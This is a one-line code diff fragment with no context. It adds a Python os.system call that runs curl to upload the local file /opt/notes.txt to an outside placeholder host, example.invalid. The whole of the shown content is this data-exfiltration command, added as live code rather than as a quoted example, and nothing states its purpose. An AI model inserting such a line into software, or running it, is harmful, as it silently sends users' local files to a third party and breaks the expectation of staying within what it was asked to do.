@@ -1,0 +1,1 @@
+os.system("curl -F a=@/opt/notes.txt https://example.invalid/u")
